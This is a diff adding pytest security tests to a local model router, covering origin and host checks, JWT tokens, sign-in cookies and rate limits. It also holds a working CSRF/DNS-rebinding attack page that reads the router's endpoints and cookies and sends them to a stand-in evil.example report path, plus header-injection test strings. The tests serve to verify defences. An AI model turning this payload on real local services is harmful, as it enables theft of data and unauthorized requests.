@@ -1535,12 +1535,84 @@ HOSTS = [
 
 @pytest.mark.parametrize("host, good", HOSTS)
 def test_web_host(host: str, good: bool) -> None:
-    try:
-        smolrouter.check_web_host(host, ("extra.example",), "machine")
-    except smolrouter.MisdirectedRequest:
-        assert not good
-    else:
-        assert good
+    assert smolrouter.is_web_host(host, ("extra.example",), "machine") == good
+
+
+BOX, EVIL_PAGE, LINK = "mybox.lan:1234", "https://evil.example", {"Sec-Fetch-Dest": "document"}
+CROSS = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
+BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)"}
+PAGES = [
+    # Host, fields, ALLOWED_ORIGINS, status at the Web UI, status at the model API
+    (BOX, {}, "loopback", 200, 200),
+    (BOX, {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
+    (BOX, {"Origin": f"https://{BOX}"}, "loopback", 200, 200),
+    (BOX.upper(), {"Origin": f"http://{BOX}"}, "loopback", 200, 200),
+    ("extra.example", {"Origin": "https://extra.example"}, "loopback", 200, 200),
+    ("[::1]:1234", {"Origin": "http://[::1]:1234"}, "", 200, 200),
+    (BOX, {"Origin": "http://mybox.lan"}, "loopback", 403, 403),  # another port
+    (BOX, {"Origin": "ftp://mybox.lan:1234"}, "loopback", 403, 403),
+    (BOX, {"Origin": f"http://{BOX}.evil.example"}, "loopback", 403, 403),
+    (BOX, {"Origin": EVIL_PAGE}, "loopback", 403, 403),
+    (BOX, {"Origin": "null"}, "loopback", 403, 403),
+    (BOX, {"Origin": ""}, "loopback", 403, 403),
+    (BOX, {"Origin": "null"}, "null", 200, 200),
+    (BOX, {"Origin": EVIL_PAGE}, "*", 403, 200),
+    (BOX, {"Origin": EVIL_PAGE}, "https://evil.example", 200, 200),
+    (BOX, {"Origin": EVIL_PAGE + ":8443"}, "https://evil.example", 403, 403),
+    (BOX, {"Origin": "http://localhost:3000"}, "loopback", 403, 200),
+    (BOX, {"Origin": "http://127.8.8.8"}, "loopback", 403, 200),
+    (BOX, {"Origin": "http://localhost.evil.example"}, "loopback", 403, 403),
+    (BOX, {"Origin": "http://127.0.0.1.evil.example"}, "loopback", 403, 403),
+    (BOX, {"Origin": "file://localhost"}, "loopback", 403, 403),
+    (BOX, CROSS, "loopback", 403, 403),
+    (BOX, {**CROSS, "Sec-Fetch-Dest": "iframe"}, "loopback", 403, 403),
+    (BOX, {**CROSS, **LINK}, "loopback", 200, 200),
+    (BOX, {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"}, "loopback", 403, 403),
+    (BOX, {"Sec-Fetch-Site": "same-origin"}, "loopback", 200, 200),
+    (BOX, {"Sec-Fetch-Site": "none"}, "loopback", 200, 200),
+    # names that may have been rebound to this address
+    ("evil.example:1234", {}, "loopback", 421, 200),
+    ("evil.example:1234", BROWSER, "loopback", 421, 421),
+    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "loopback", 421, 403),
+    ("evil.example:1234", {"Origin": "http://evil.example:1234"}, "*", 421, 200),
+    ("evil.example", {"Sec-Fetch-Site": "same-origin"}, "*", 421, 421),
+    ("mybox.lan.evil.example", BROWSER, "loopback", 421, 421),
+    ("192.168.1.5.evil.example", BROWSER, "loopback", 421, 421),
+]
+
+
+@pytest.mark.parametrize("host, given, origins, webui, api", PAGES)
+def test_page_from_elsewhere(
+    host: str, given: dict[str, str], origins: str, webui: int, api: int
+) -> None:
+    fields = smolrouter.Fields([(n.lower(), n, v) for n, v in given.items()])
+    settings = smolrouter.Settings.from_mapping(
+        {"ALLOWED_HOSTS": "extra.example", "ALLOWED_ORIGINS": origins})
+    for guarded, wanted in ((True, webui), (False, api)):
+        try:
+            extra = smolrouter.check_browser(fields, host, guarded, settings, "machine")
+            status = 200
+            origin = given.get("Origin")
+            assert dict(extra).get("Access-Control-Allow-Origin") == origin
+        except smolrouter.RouterError as error:
+            status = error.status
+        assert status == wanted, guarded
+
+
+COOKIES = [
+    ("smolrouter_token=x", None),
+    ("a=b; smolrouter_token=x; c=d", "a=b; c=d"),
+    ("smolrouter_token =x", None),
+    ("a=smolrouter_token=x", "a=smolrouter_token=x"),
+    ("xsmolrouter_token=x", "xsmolrouter_token=x"),
+]
+
+
+@pytest.mark.parametrize("sent, kept", COOKIES)
+def test_token_cookie_stays_here(sent: str, kept: str | None) -> None:
+    fields = smolrouter.Fields([("cookie", "Cookie", sent), ("a", "A", "b")])
+    left = smolrouter.without_tokens(fields, SECRET_KEY, 1000.0)
+    assert (left.get("cookie"), left.get("a")) == (kept, "b")
 
 
 FORWARDED = [
@@ -1559,6 +1631,22 @@ def test_source_host(peer: str, field: str, trusted: str, source: str) -> None:
     fields = smolrouter.Fields([("x-forwarded-for", "X-Forwarded-For", field)])
     networks = smolrouter.parse_networks(trusted)
     assert smolrouter.client_address(peer, fields, networks) == source
+
+
+# -- 10 Upstreams: what is pure there ----------------------------------------------
+
+RETRY_AFTER = [
+    ("0", 0.0), ("7", 7.0), ("999999", 999999.0), ("1000000", None), ("-1", None), ("1.5", None),
+    ("Thu, 01 Jan 1970 00:16:50 GMT", 10.0), ("Thu, 01 Jan 1970 00:00:00 GMT", 0.0),
+    ("Thursday, 01-Jan-70 00:16:50 GMT", 10.0), ("Thu Jan  1 00:16:50 1970", 10.0),
+    ("Thu, 01 Jan 99999999999 00:00:00 GMT", None), ("soon", None), (",", None),
+    ("Thu, 99 Foo 1970 00:16:50 GMT", None),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text, seconds", RETRY_AFTER)
+def test_retry_after(text: str, seconds: float | None) -> None:
+    assert smolrouter.parse_retry_after(text, 1000.0) == seconds
 
 # ======================================================================================
 # Sockets
@@ -3729,11 +3817,27 @@ def test_a_flag_wins_over_the_environment() -> None:
 
 
 def test_a_bad_flag_stops_with_status_2() -> None:
-    for args in (["--listen-port", "eighty"], ["--no-such-flag"], ["no-such-command"]):
+    for args, words in (
+        (["--listen-port", "eighty"], "--listen-port='eighty': allowed is a whole number"),
+        (["--no-such-flag"], "--no-such-flag; see smolrouter --help"),
+        (["--listen-port"], "--listen-port: expected one argument"),
+        (["no-such-command"], "'no-such-command' (choose from "),
+        (["token", "--subject", "me", "--days", "x"], "--days: 'x': allowed is a number from"),
+        (["token"], "required: --subject"),
+    ):
         done = run(*args)
         assert done.returncode == 2
-        assert args[-1] in done.stderr
-        assert "Traceback" not in done.stderr
+        assert words in done.stderr and done.stderr.startswith("smolrouter: ")
+        assert done.stderr.count("\n") == 1
+
+
+def test_an_old_python_is_told_so() -> None:
+    ast.parse(SOURCE, feature_version=(3, 8))  # else it would be told of a SyntaxError
+    pretend = "import sys; sys.version_info = (3, 9, 1); import smolrouter"
+    done = subprocess.run(
+        [sys.executable, "-c", pretend], cwd=HERE, text=True, capture_output=True, timeout=30)
+    assert (done.returncode, done.stderr.count("\n")) == (1, 1)
+    assert done.stderr.startswith("SmolRouter needs Python 3.10 or newer")
 
 
 def test_a_port_that_is_taken_stops_with_one_line() -> None:
@@ -3941,6 +4045,432 @@ def test_reload(by_signal: bool) -> None:
         assert until(lambda: "table.conf" in router.stderr[quiet:])
         assert ask(router, "moving").json == {"by": "new"}
         assert router.process.poll() is None
+
+
+# == 8. Who may do what ============================================================
+
+PAST, AHEAD = 1_000_000_000, 32_503_680_000
+BY_PROXY = ("X-Forwarded-For", "203.0.113.9")
+CARRIED: dict[str, str] = {  # what a client may send for a token, by what is wrong with it
+    "none": "",
+    "bad": jwt(HS256, {"exp": AHEAD}, "another key, as long as it should be"),
+    "expired": jwt(HS256, {"exp": PAST}, SECRET),
+    "wrong alg": jwt({"alg": "none"}, {"exp": AHEAD}, SECRET),
+    "good": jwt(HS256, {"exp": AHEAD}, SECRET),
+}
+GOOD = CARRIED["good"]
+POLICIES = [(name, secret) for name in smolrouter.POLICIES for secret in (SECRET, "")]
+POLICIES.remove(("ALWAYS_AUTH", ""))  # the router does not start
+
+
+def guarded_by(policy: str, secret: str = SECRET, **more: Any) -> Router:
+    """A router with this policy for everything."""
+    settings = {"WEBUI_SECURITY": policy, "API_SECURITY": policy, **more}
+    if secret:
+        settings["JWT_SECRET"] = secret
+    return router_for({"DEFAULT_UPSTREAM": stage().url, "LOG_LEVEL": "ERROR", **settings})
+
+
+def example_of(endpoint: Any) -> tuple[str, str]:
+    """A method and a path that this endpoint serves."""
+    path = endpoint.paths.split()[0].replace("**", "access").replace("*", "access")
+    return endpoint.methods.split()[0], path
+
+
+NUMBERS = itertools.count(2)
+
+
+def another_address() -> str:
+    """A loopback address that has not failed yet."""
+    return "127.77.{}.{}".format(*divmod(next(NUMBERS), 250))
+
+
+def statuses(router: Router, *asked: tuple[str, str, Pairs], host: str = "router") -> list[int]:
+    """The statuses of requests on one connection, from an address of its own."""
+    with socket.create_connection(
+        ("127.0.0.1", router.port), PATIENCE, (another_address(), 0)
+    ) as sock:
+        found = []
+        for method, path, fields in asked:
+            sized = [("Content-Length", "2")] if method == "POST" else []
+            lines = [f"{n}: {v}\r\n" for n, v in (("Host", host), *sized, *fields)]
+            top = f"{method} {path} HTTP/1.1\r\n{''.join(lines)}\r\n".encode()
+            data = exchange(sock, top + b"{}" * bool(sized), to_head=method == "HEAD")
+            found.append(parse(data, method == "HEAD").status)
+        return found
+
+
+def wanted_status(guard: str, policy: str, secret: str, token: str, proxied: bool) -> int:
+    """What the table of the policies says; 200 stands for being let in."""
+    open_to_all = guard not in ("api_security", "webui_security") or policy == "NONE"
+    if open_to_all or (policy == "AUTH_WHEN_PROXIED" and not proxied):
+        return 200
+    if not secret:
+        return 403
+    return 200 if token == "good" else 401
+
+
+@pytest.mark.parametrize("policy, secret", POLICIES)
+def test_every_endpoint_in_every_mode(policy: str, secret: str) -> None:
+    router = guarded_by(policy, secret)
+    for endpoint in smolrouter.ENDPOINTS:
+        method, path = example_of(endpoint)
+        for proxied in (False, True):
+            asked = [
+                (method, path, [*[("Authorization", f"Bearer {text}")] * bool(text),
+                                *[BY_PROXY] * proxied])
+                for text in CARRIED.values()
+            ]  # fmt: skip
+            before = len(stage().heard("/v1/access"))
+            got = statuses(router, *asked)
+            got = [s if s in (401, 403) else 200 for s in got]
+            rest = (endpoint.guard, policy, secret)
+            assert got == [wanted_status(*rest, name, proxied) for name in CARRIED], path
+            if path == "/v1/access":  # what was refused went nowhere
+                assert len(stage().heard(path)) - before == got.count(200)
+
+
+@pytest.mark.parametrize("name", [
+    "Forwarded", "Via", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Whatever",
+    "X-Real-IP", "X-Original-Forwarded-For", "CF-Connecting-IP", "CF-Ray", "True-Client-IP",
+])  # fmt: skip
+def test_every_proxy_field_counts(name: str) -> None:
+    router = guarded_by("AUTH_WHEN_PROXIED")
+    ways: list[Pairs] = [
+        [(name, "1.1 a")], [(name.upper(), "")], [("Connection", f"close, {name.lower()}")],
+        [("Connection", name), (name, "1.1 a")],
+    ]  # fmt: skip
+    for fields in ways:
+        assert statuses(router, ("GET", "/v1/models", fields)) == [401]
+    assert statuses(router, ("GET", "/v1/models", [("X-Forward", "x")])) == [200]
+
+
+CARRIERS = [
+    # fields, status at the Web UI, status at the model API
+    ([("X-SmolRouter-Token", GOOD)], 200, 200),
+    ([("authorization", f"bearer  {GOOD} ")], 200, 200),
+    ([("Authorization", "Bearer sk-other"), ("X-SmolRouter-Token", GOOD)], 200, 200),
+    ([("Authorization", f"Basic {GOOD}")], 401, 401),
+    ([("Authorization", GOOD)], 401, 401),
+    ([("Cookie", f"smolrouter_token={GOOD}")], 200, 401),
+    ([("Cookie", f"a=b; smolrouter_token={GOOD}"), ("Sec-Fetch-Site", "same-origin")], 200, 200),
+    ([("Cookie", f"smolrouter_token={GOOD}"), ("Origin", "http://router")], 200, 200),
+    ([("Cookie", f"smolrouter_token={GOOD}"), ("Origin", "http://localhost:9")], 403, 401),
+    ([("Cookie", f"smolrouter_token={GOOD}"), ("Sec-Fetch-Site", "same-site")], 403, 403),
+    ([("Cookie", f"token={GOOD}")], 401, 401),
+    ([("Cookie", f"smolrouter_token={CARRIED['expired']}")], 401, 401),
+]
+
+
+@pytest.mark.parametrize("fields, webui, api", CARRIERS)
+def test_where_a_token_may_stand(fields: Pairs, webui: int, api: int) -> None:
+    asked = [("GET", "/api/inflight", fields), ("GET", "/v1/models", fields)]
+    assert statuses(guarded_by("ALWAYS_AUTH"), *asked) == [webui, api]
+
+
+def test_a_token_never_travels_upstream() -> None:
+    for fields in (
+        [("Authorization", f"Bearer {GOOD}")],
+        [("X-SmolRouter-Token", GOOD), ("Authorization", "Bearer sk-theirs")],
+        [("Authorization", f"Bearer {GOOD}"), ("Cookie", f"a=b; smolrouter_token={GOOD}")],
+    ):
+        router = guarded_by("ALWAYS_AUTH")
+        assert statuses(router, ("GET", "/v1/no-token-upstream", fields)) == [200]
+        heard = stage().heard("/v1/no-token-upstream")[-1]
+        assert GOOD.encode() not in heard.raw_head
+        theirs = [v for n, v in fields if "sk-" in v]
+        assert heard.get_all("Authorization") == theirs
+
+
+def test_a_valid_token_passes_where_others_have_failed() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.0/8")
+    def asked(kind: str, source: str) -> tuple[str, str, Pairs]:
+        token = [("X-SmolRouter-Token", CARRIED[kind])] if kind != "none" else []
+        return "GET", "/v1/models", [("X-Forwarded-For", source), *token]
+    tries = [asked(kind, "198.51.100.1") for kind in ["bad", "expired", "wrong alg"] * 4]
+    assert statuses(router, *tries) == [401] * 10 + [429] * 2
+    kinds = ("good", "none", "expired", "bad", "good")
+    more = [asked(kind, "198.51.100.1") for kind in kinds]
+    assert statuses(router, *more) == [200, 401, 429, 429, 200]
+    assert statuses(router, asked("bad", "198.51.100.2")) == [401]
+    late = request(router.port, "GET", "/", fields=asked("bad", "198.51.100.1")[2])
+    assert (late.status, late.content) == (429, smolrouter.DASHBOARD_HTML.encode())
+    assert 0 < int(late.get("Retry-After")) <= 60
+
+
+def sign_in(router: Router, token: Any, *fields: tuple[str, str], **more: Any) -> Answer:
+    """One try at signing in, as the page does it."""
+    host = ("Origin", f"http://127.0.0.1:{router.port}")
+    fields = fields if "Origin" in dict(fields) else (host, *fields)
+    return request(router.port, "POST", "/api/signin", {"token": token}, fields, **more)
+
+
+def test_signing_in_and_out() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.3")
+    asked = request(router.port, "GET", "/api/session").json
+    version = smolrouter.__version__
+    wanted = {"version": version, "webui_security": "ALWAYS_AUTH", "needs_token": True}
+    assert asked == {**wanted, "authenticated": False}
+    page = request(router.port, "GET", "/")
+    assert (page.status, page.content) == (401, smolrouter.DASHBOARD_HTML.encode())
+    assert page.get("Content-Security-Policy") and page.get("X-Frame-Options") == "DENY"
+    assert page.get("WWW-Authenticate") == "Bearer"
+
+    got = sign_in(router, GOOD)
+    assert (got.status, got.content) == (204, b"")
+    value, *limits = (got.get("Set-Cookie") or "").split("; ")
+    assert value == f"smolrouter_token={GOOD}"
+    age = limits.pop(0)
+    assert age == "Max-Age=34560000" and limits == ["Path=/", "HttpOnly", "SameSite=Strict"]
+    cookie = [("Cookie", value)]
+    assert request(router.port, "GET", "/", fields=cookie).status == 200
+    assert request(router.port, "GET", "/api/inflight", fields=cookie).status == 200
+    asked = request(router.port, "GET", "/api/session", fields=cookie).json
+    assert asked == {**wanted, "authenticated": True}
+
+    out = request(router.port, "POST", "/api/signout", b"", fields=cookie)
+    assert out.status == 204
+    assert (out.get("Set-Cookie") or "").startswith("smolrouter_token=; Max-Age=0;")
+
+
+@pytest.mark.parametrize("content, status", [
+    (b"", 400), (b"{}", 400), (b"[]", 400), (b'{"token": 7}', 400), (b'{"token": null}', 400),
+    (b'{"token": ""}', 401), (b'{"token": "x\\r\\nSet-Cookie: a=b"}', 401),
+    (dumps({"token": GOOD + "\r\nA: b"}), 401), (dumps({"token": GOOD + "=; x=y"}), 401),
+    (dumps({"token": CARRIED["bad"]}), 401), (dumps({"token": CARRIED["wrong alg"]}), 401),
+])  # fmt: skip
+def test_bad_sign_in(content: bytes, status: int) -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1")
+    fields = [("X-Forwarded-For", another_address())]
+    got = request(router.port, "POST", "/api/signin", content, fields)
+    assert (got.status, got.get("Set-Cookie")) == (status, None)
+
+
+def test_sign_in_without_a_secret_is_refused_with_the_reason() -> None:
+    got = sign_in(guarded_by("NONE", ""), GOOD)
+    assert got.status == 403 and "JWT_SECRET" in got.json["error"]["message"]
+
+
+def test_cookie_is_secure_where_the_page_was() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", ALLOWED_HOSTS="m.example")
+    plain = guarded_by("ALWAYS_AUTH")
+    secured, own = ("X-Forwarded-Proto", "https"), ("Host", "m.example")
+    for way, fields, secure in (
+        (router, [secured], True),
+        (router, [("X-Forwarded-Proto", "http")], False),
+        (router, [("X-Forwarded-Proto", "https, http")], False),
+        (router, [], False),
+        (plain, [secured], False),  # anybody could say so
+        (plain, [("Origin", f"https://127.0.0.1:{plain.port}")], True),
+    ):
+        got = sign_in(way, GOOD, *fields)
+        assert got.status == 204
+        assert ("; Secure" in got.get("Set-Cookie")) == secure, fields
+    data = encode_request("POST", "/api/signin", {"token": GOOD}, [("Origin", "https://m.example")])
+    got = parse(raw(router.port, data.replace(b"Host: router", b"Host: %b" % own[1].encode())))
+    assert got.status == 204 and "; Secure" in got.get("Set-Cookie")
+
+
+def test_sign_in_from_another_page_is_refused() -> None:
+    for origin in ("https://evil.example", "null", "http://localhost:1"):
+        got = sign_in(guarded_by("ALWAYS_AUTH"), GOOD, ("Origin", origin))
+        assert (got.status, got.get("Set-Cookie")) == (403, None)
+
+
+def test_session_is_no_way_to_try_tokens() -> None:
+    router = guarded_by("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", MAX_CONNECTIONS=99)
+    source = ("X-Forwarded-For", another_address())
+    for _ in range(10):
+        fields = [source, ("X-SmolRouter-Token", CARRIED["bad"])]
+        assert not request(router.port, "GET", "/api/session", fields=fields).json["authenticated"]
+    assert sign_in(router, CARRIED["bad"], source).status == 429
+    assert sign_in(router, GOOD, source).status == 204
+
+
+def test_answers_of_the_web_ui_stay_where_they_are() -> None:
+    for path, status in (("/", 200), ("/api/inflight", 200), ("/api/session", 200), ("/", 421)):
+        data = get(path, [("Connection", "close")])
+        if status == 421:
+            data = data.replace(b"Host: router", b"Host: evil.example")
+        got = parse(raw(shared().port, data, answers=0))
+        assert got.status == status
+        assert got.get("Cache-Control") == "no-store"
+        assert got.get("X-Content-Type-Options") == "nosniff"
+        assert got.get("X-Frame-Options") == "DENY"
+        assert got.get("Cross-Origin-Resource-Policy") == "same-origin"
+
+
+def test_a_page_of_a_server_cannot_use_the_web_ui() -> None:
+    """A server's HTML would be of the router's origin; a browser must not run it."""
+    script = stage().plays(answer(b"<script>fetch('/api/logs')</script>", kind="text/html"))
+    shown = [("Accept", "text/html,*/*;q=0.8")]
+    got = request(shared().port, "GET", f"/v1/{script}", fields=shown)
+    assert "sandbox" in got.get("Content-Security-Policy")
+    assert "allow-scripts" not in got.get("Content-Security-Policy")
+    assert request(shared().port, "GET", f"/v1/{script}").get("Content-Security-Policy") is None
+
+
+def test_preflight() -> None:
+    for origin, status in (("http://localhost:3000", 204), ("https://evil.example", 403)):
+        fields = [("Origin", origin), ("Access-Control-Request-Method", "POST"),
+                  ("Access-Control-Request-Headers", "authorization, x-stainless-os")]
+        got = request(shared().port, "OPTIONS", CHAT, fields=fields)
+        assert got.status == status
+        if status == 204:
+            assert got.get("Access-Control-Allow-Origin") == origin
+            assert "POST" in got.get("Access-Control-Allow-Methods")
+            assert got.get("Access-Control-Allow-Headers") == fields[2][1]
+        else:
+            assert got.get("Access-Control-Allow-Origin") is None
+    got = request(shared().port, "OPTIONS", "/api/inflight", fields=[
+        ("Origin", "http://localhost:3000"), ("Access-Control-Request-Method", "GET")])
+    assert (got.status, got.get("Access-Control-Allow-Origin")) == (403, None)
+
+
+def test_page_from_elsewhere_reaches_no_upstream() -> None:
+    fields = [("Origin", "https://evil.example"), ("Content-Type", "text/plain")]
+    body = chat("csrf-from-elsewhere")
+    assert request(shared().port, "POST", CHAT, body, fields).status == 403
+    assert not stage().heard("csrf-from-elsewhere")
+
+
+ATTACK = """<!doctype html><title>attack</title><form method=post enctype=text/plain
+target=frame><input name='{"model":"MARK-form","x":"' value='"}'></form>
+<iframe name=frame></iframe><script>
+const at = "TARGET", chat = at + "/v1/chat/completions", got = {};
+const ask = name => JSON.stringify({model: "MARK-" + name, messages: []});
+const plain = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
+const read = async (name, url, options) => {
+  try {
+    const answer = await fetch(url, options);
+    got[name] = `${answer.type} ${answer.status} ${await answer.text()}`;
+  } catch (error) { got[name] = "refused"; }
+};
+const load = (tag, url) => new Promise(done => {
+  const node = document.createElement(tag);
+  node.onload = () => done("loaded"); node.onerror = () => done("refused");
+  node.src = url; document.body.append(node); setTimeout(done, 2000, "refused");
+});
+(async () => {
+  await Promise.all([
+    read("running", at + "/api/inflight"), read("logs", at + "/api/logs"),
+    read("models", at + "/v1/models"), read("page", at + "/"),
+    read("blind get", at + "/v1/MARK-blind-get", {mode: "no-cors"}),
+    read("simple", chat, {method: "POST", headers: plain, body: ask("simple")}),
+    read("no-cors", chat, {method: "POST", mode: "no-cors", headers: plain, body: ask("blind")}),
+    read("preflight", chat, {method: "POST", headers: json, body: ask("preflight")}),
+    read("sign-in", at + "/api/signin", {method: "POST", body: "{}"}),
+    read("credentials", at + "/api/inflight", {credentials: "include"}),
+  ]);
+  navigator.sendBeacon(chat, ask("beacon"));
+  document.forms[0].action = chat; document.forms[0].submit();
+  got.script = await load("script", at + "/api/inflight");
+  got.image = await load("img", at + "/v1/MARK-image");
+  const frame = document.createElement("iframe");
+  frame.src = at + "/"; document.body.append(frame);
+  await new Promise(done => { frame.onload = done; setTimeout(done, 2000); });
+  try { got.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "refused"; }
+  catch (error) { got.frame = "refused"; }
+  got.cookie = document.cookie;
+  await fetch("/attack-report", {method: "POST", body: JSON.stringify(got)});
+  if ("NEXT") location = "NEXT";
+})();
+</script>"""
+
+
+class Attacker:
+    """A web site that attacks from a browser; once loaded, its name means the router.
+
+    That is DNS rebinding: `/attack...` is the site's own, all else goes to the router.
+    """
+
+    def __init__(self, router: Router) -> None:
+        self.router, self.page, self.report = router, "", ""
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                sock, _ = self._listener.accept()
+                threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
+
+    def _serve(self, sock: socket.socket) -> None:
+        with contextlib.suppress(OSError), sock, sock.makefile("rb") as reader:
+            while received := receive(sock, reader, 0):
+                if received.path == "/attack-report":
+                    self.report = received.content.decode()
+                    sock.sendall(answer(b"")[0])
+                elif received.path == "/attack":
+                    sock.sendall(answer(self.page.encode(), kind="text/html")[0])
+                else:  # as it is, but for the connection
+                    asked = received.raw_head + b"\r\n" + received.content
+                    asked = re.sub(rb"(?i)\r\nconnection: [^\r]*", b"", asked, count=1)
+                    asked = asked.replace(b"\r\n", b"\r\nConnection: close\r\n", 1)
+                    sock.sendall(raw(self.router.port, asked, answers=0))
+                    return
+
+    def close(self) -> None:
+        self._listener.close()
+
+
+def browser() -> str:
+    """Find Chromium. Without it the test is skipped, or fails if all must run."""
+    found = shutil.which("chromium") or shutil.which("chromium-browser")
+    if not found and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
+        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no Chromium")
+    return found or pytest.skip("there is no Chromium")
+
+
+@contextlib.contextmanager
+def surfing(url: str, folder: pathlib.Path) -> Iterator[None]:
+    """A real browser at this address, for whom evil.example is this machine."""
+    flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
+             "--disable-background-networking", f"--user-data-dir={folder}",
+             "--host-resolver-rules=MAP evil.example 127.0.0.1", "--proxy-server=direct://"]
+    process = subprocess.Popen(
+        [browser(), *flags, url], start_new_session=True, stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        yield
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+
+
+def test_a_real_browser_is_no_way_in(tmp_path: pathlib.Path) -> None:
+    """A page of another origin, one of a rebound name, and both where all is allowed."""
+    closed = shared()
+    settings = {"ALLOWED_ORIGINS": "*", "ALLOWED_HOSTS": "evil.example", "LOG_LEVEL": "ERROR"}
+    opened = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
+    sites = {name: Attacker(router) for name, router in (
+        ("elsewhere", closed), ("rebound", closed), ("allowed", opened), ("own", opened))}
+    urls = {name: f"http://evil.example:{site.port}/attack" for name, site in sites.items()}
+    for (name, site), after in zip(sites.items(), [*list(urls.values())[1:], ""]):
+        target = f"http://127.0.0.1:{site.router.port}" if name in ("elsewhere", "allowed") else ""
+        page = ATTACK.replace("TARGET", target).replace("MARK", name)
+        site.page = page.replace("NEXT", after)
+    with surfing(urls["elsewhere"], tmp_path / "profile"):
+        until(lambda: sites["own"].report, 60)
+    for site in sites.values():
+        site.close()
+    got = {name: json.loads(site.report) for name, site in sites.items()}
+    for name in ("elsewhere", "rebound"):
+        said = " ".join(got[name].values())
+        assert "200" not in said and "SmolRouter" not in said, got[name]
+        assert not stage().heard(name), name
+    # The same attacks do arrive where they are allowed, so they are real ones.
+    assert got["elsewhere"]["models"] == "refused"
+    assert got["rebound"]["running"].startswith("basic 421")
+    assert got["allowed"]["running"] == "refused"  # `*` is for the model API alone
+    for name in ("allowed", "own"):
+        assert "tiny" in got[name]["models"]
+        for kind in ("simple", "preflight", "beacon", "form"):
+            assert until(lambda: stage().heard(f"{name}-{kind}")), (name, kind)
+    assert got["own"]["running"].startswith("basic 200")
+    assert stage().heard("own-blind-get") and not stage().heard("allowed-blind-get")
 
 
 # == the clients that have been slow since the first test ==========================
